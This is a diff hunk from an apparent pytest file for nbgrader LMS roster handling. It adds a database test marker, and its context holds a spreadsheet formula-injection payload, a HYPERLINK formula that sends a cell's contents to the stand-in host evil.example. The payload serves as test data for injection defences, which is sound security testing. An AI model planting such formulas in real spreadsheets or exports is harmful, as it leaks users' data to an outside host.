@@ -23,6 +23,8 @@ import pytest
 from attacks import inject
 from lms_support import add_config, cli_run, make_zip  # noqa: F401 - cli_run is a fixture
 
+pytestmark = pytest.mark.database   # release, grade: an nbgrader gradebook
+
 ASSIGNMENT = "00_lms"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
 ROSTER = f"""id,first_name,last_name,email,lms_id
